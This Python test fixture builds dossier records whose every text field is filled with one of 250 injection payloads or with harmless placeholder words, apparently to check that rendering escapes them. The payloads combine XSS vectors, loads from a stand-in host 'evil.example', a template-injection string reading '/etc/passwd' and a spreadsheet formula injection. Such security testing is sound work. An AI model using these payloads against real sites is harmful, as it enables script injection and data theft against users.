"""Records whose every text is what somebody chose: 250 ways of smuggling a script in, or harmless words instead."""

from __future__ import annotations

from collections.abc import Callable, Sequence
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

from onrecord.model.arrow import dossier_to_row, dossiers_to_table
from onrecord.model.dossier import (
    Actor,
    AttributionStep,
    Dossier,
    Event,
    Figure,
    ModelStamp,
    Place,
    Position,
    Statement,
    TimeExpression,
)
from onrecord.model.ids import fact_id, report_id
from onrecord.model.page import Furniture
from onrecord.model.report import Reject, Report
from onrecord.model.span import Span
from onrecord.record.selection import OpenRecord, open_record
from onrecord.record.table import create_record
from onrecord.record.writer import save_rejects

NOW = datetime(2031, 6, 1, tzinfo=UTC)
#: What would run, or change the page, were it not escaped.
_VECTORS = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<math><mi xlink:href=javascript:alert(1)>x",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=//evil.example><button>x",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<object data=//evil.example/x.swf>",
    "<embed src=//evil.example/x.swf>",
    "<template><script>alert(1)</script></template>",
    "<div hx-get=/home hx-trigger=load hx-on::load=alert(1)>",
    " onmouseover=alert(1) x=",
    " autofocus onfocus=alert(1) style=position:fixed ",
    "{{ 7*7 }}{% include '/etc/passwd' %}${7*7}#{7*7}",
    "=cmd|'/c calc'!A1",
)
#: What would end the place it stands in.
_WRAPPERS = (
    "{}",
    '">{}',
    "'>{}",
    '" {} "',
    "' {} '",
    "</title></textarea></style></script>{}",
    "-->{}<!--",
    "]]>{}",
    "&lt;{}&gt;&#60;{}&#x3e;",
    "\u2028\u202e\ufeff`{}`\\",
)
PAYLOADS: tuple[str, ...] = tuple(wrapper.replace("{}", vector) for vector in _VECTORS for wrapper in _WRAPPERS)
HARMLESS: tuple[str, ...] = tuple(f"harmless words {number}" for number in range(len(PAYLOADS)))
#: How addresses of reports begin; the rest is what was chosen.
_SCHEMES = ("https://example.org/", "javascript:alert(1)//", "data:text/html,", "//evil.example/", "\tjavascript:")


class _Text:
    """A text in the making; knows where its pieces stand."""

    def __init__(self) -> None:
        self.text = ""

    def add(self, piece: str, after: str = " ") -> Span:
        span = Span(len(self.text), len(self.text) + len(piece))
        self.text += piece + after
        return span


def make_hostile(folder: Path, words: Sequence[str]) -> OpenRecord:
    """Make a record with a report for each of some words, which stand in every field that holds text."""
    record = create_record(folder)
    rows = [dossier_to_row(dossier_of(n, word), origin=f"{word} {n}", ingested_at=NOW) for n, word in enumerate(words)]
    record.add(dossiers_to_table(rows))
    save_rejects(
        record, [Reject(origin=f"{w} rejected {n}", code="E-TEXT-EMPTY", reason=w) for n, w in enumerate(words)], NOW
    )
    return open_record(folder)


def dossier_of(number: int, words: str) -> Dossier:
    """Return a report with a fact of every kind, all of whose text is the words."""
    text = _Text()
    head = text.add(f"Report {number}", "\n\n")
    name, other, cue, said, done, where, when, many, issue = (text.add(words) for _ in range(9))
    report = report_id(text.text)
    make: Callable[[str, Span], str] = lambda kind, span: fact_id(report, kind, span)  # noqa: E731
    speaker, second = make("actor", name), make("actor", other)
    place, statement = make("place", where), make("statement", said)
    day = datetime(2031, 5, 1) + timedelta(days=number % 7)
    time = TimeExpression(span=when, type="DATE", value=words, start=day, end=day + timedelta(days=1))
    return Dossier(
        report=Report(
            id=report, text=text.text, title=words, publisher=words, published=date(2031, 5, 1),
            published_source="given", url=_SCHEMES[number % len(_SCHEMES)] + words, language="en",
        ),
        furniture=(Furniture(head, "heading"),),
        actors=(
            Actor(id=speaker, name=words, kind="person", country=words, sector=words, title=words, mentions=(name,)),
            Actor(id=second, name=f"{words} too", kind="person", title=words, same_as=speaker, mentions=(other,)),
        ),
        statements=(
            Statement(
                id=statement, kind="said", speakers=(speaker,), speaker_span=name, cue_span=cue, content=(said,),
                form="direct", marks="balanced", act="REJECT", addressee_span=other, outlet_span=where, said=time,
                attribution=(AttributionStep(role="citing", span=other, actor=second),),
            ),
        ),
        events=(
            Event(
                id=make("event", done), trigger_span=done, type="ASSAULT", modality="planned", mode=words,
                contexts=(words,), custom_type=words, actors=(speaker,), recipients=(second,), disputed_by=(second,),
                condition_span=issue, when=time, where=place, statement=statement,
            ),
        ),
        positions=(
            Position(id=make("position", issue), party=speaker, speaker=speaker, issue=words, stance="demands",
                     toward=(second,), content_span=issue),
            Position(id=make("position", done), party=second, speaker=second, issue=words, stance="refuses",
                     toward=(speaker,), content_span=done),
        ),
        figures=(
            Figure(id=make("figure", many), span=many, low=1, best=2, high=3, bound="exact", unit="deaths",
                   unit_text=words, of_span=other),
        ),
        times=(time,),
        places=(Place(id=place, span=where, name=words, lat=1.0, lon=2.0, country=words, precision=1),),
        warnings=(words,),
        model=ModelStamp(name=words, version=words, sha256="0" * 64),
    )  # fmt: skip
